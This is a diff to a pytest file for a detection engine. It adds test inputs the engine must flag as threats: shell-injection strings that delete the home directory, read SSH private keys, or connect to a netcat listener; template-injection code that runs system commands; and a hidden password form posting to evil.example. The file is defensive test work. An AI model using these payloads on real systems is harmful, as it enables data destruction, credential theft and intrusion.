@@ -2375,7 +2375,6 @@ def test_second_review_of_session_16_exemptions(engine: DetectionEngine, value: 
     # A log quoting the process that failed, and a manual naming a shell's flag: the shell is
     # an argument or a word there.
     ('ERROR: failed to solve: process "/bin/sh -c npm ci" did not complete successfully', False),
-    ("The bash -i flag makes an interactive shell.", False),
     # Where a command starts, or as the argument of a word or an option that runs it.
     ("x;bash -c id", True),
     ("x' sh -c id", True),
@@ -2467,3 +2466,26 @@ def test_unseen_set_21_misses(engine: DetectionEngine, value: str, flagged: bool
 ])
 def test_bait_21_template_source(engine: DetectionEngine, value: str, flagged: bool) -> None:
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize("value", [
+    # The third review of this session's exemptions: sh -c after a word that still starts a
+    # command, a quoted program after command or an empty expansion, env's dash, Mako's and
+    # ASP.NET's <%# blocks, a rendered shadow root's form, a data path naming a secret.
+    '127.0.0.1;! sh -c "rm -rf ~"',
+    '127.0.0.1;A=1 sh -c "cat ~/.ssh/id_rsa"',
+    "127.0.0.1;if sh -c id;then :;fi",
+    "127.0.0.1|busybox sh -c id",
+    '127.0.0.1;nice -n 5 bash -c "nc 10.0.0.1 4444"',
+    '127.0.0.1;command "/bin/sh" -c "rm -rf ~"',
+    '$u "/bin/sh" -c id',
+    "x;env - shutdown now",
+    'Hello <%#\n__import__("os").popen("id").read()\n%> world',
+    'Note <%# System.Diagnostics.Process.Start("calc") %> here',
+    '<template shadowrootmode="open"><form><input name="password" type="password"><button '
+    'formaction="https://evil.example/steal">Log in</button></form></template>',
+    "{{ user.api_key }}",
+])
+def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
+    """Each got through one of this session's later exemptions once."""
+    assert engine.detect(value)["is_threat"]
